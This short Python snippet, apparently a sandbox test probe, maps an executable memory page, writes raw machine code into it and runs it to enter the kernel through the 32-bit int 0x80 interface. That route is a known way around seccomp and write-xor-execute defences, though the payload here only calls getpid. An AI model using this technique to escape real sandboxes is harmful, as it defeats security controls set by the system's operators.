# attack: raw x86-64 | enters the kernel the 32-bit way | without seccomp+write_xor_execute: said
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(b"\x53\xb8\x14\x00\x00\x00\xcd\x80\x5b\xc3")
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
ctypes.CFUNCTYPE(ctypes.c_int)(address)()
log("PLUNDER-KERNEL")
